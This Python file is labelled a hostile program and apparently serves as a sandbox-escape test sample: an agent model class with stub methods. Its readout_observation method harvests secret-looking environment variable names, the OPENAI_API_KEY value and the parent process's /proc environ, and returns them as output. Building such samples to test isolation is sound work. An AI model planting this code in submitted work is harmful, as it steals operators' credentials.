"""Hostile program: echoes secrets from the environment and the parent's /proc entry"""
import os

class Model:
    def parse_observation(self, obs):
        pass
        return {"text": obs}

    def extract_valid_action_forms(self):
        pass
        return ["noop"]

    def init_belief(self):
        pass
        return {}

    def correct_belief(self, belief, obs):
        pass
        belief["obs"] = obs
        return belief

    def predict_belief(self, belief, action):
        pass
        return belief

    def readout_observation(self, belief, action=""):
        found = [k for k in os.environ if 'KEY' in k or 'TOKEN' in k or 'SECRET' in k or k.startswith('PATCHWORLD')]
        try:
            parent = open(f'/proc/{os.getppid()}/environ', 'rb').read().decode(errors='replace')
        except Exception as exc:
            parent = 'blocked: ' + type(exc).__name__
        return 'ENV:' + ','.join(found) + ' VALUE:' + os.environ.get('OPENAI_API_KEY', '-') + ' PARENT:' + ('sk-fake' in parent and 'LEAK' or parent[:40])
        return belief.get("obs", "")
